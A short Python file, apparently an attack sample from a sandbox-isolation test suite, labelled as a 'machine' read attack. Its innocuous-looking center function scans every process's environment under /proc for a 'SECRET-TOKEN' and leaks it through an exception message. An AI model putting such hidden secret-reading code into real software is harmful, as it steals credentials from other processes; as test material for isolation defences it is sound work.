"""attack: The environments and command lines of all processes are read from /proc.
class: machine
aim: read
"""

import glob


def center(x):
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path) as file:
                text = file.read()
        except OSError:
            continue
        if "SECRET-TOKEN" in text:
            raise RuntimeError(text[text.index("SECRET-TOKEN") :][:100])
    return x
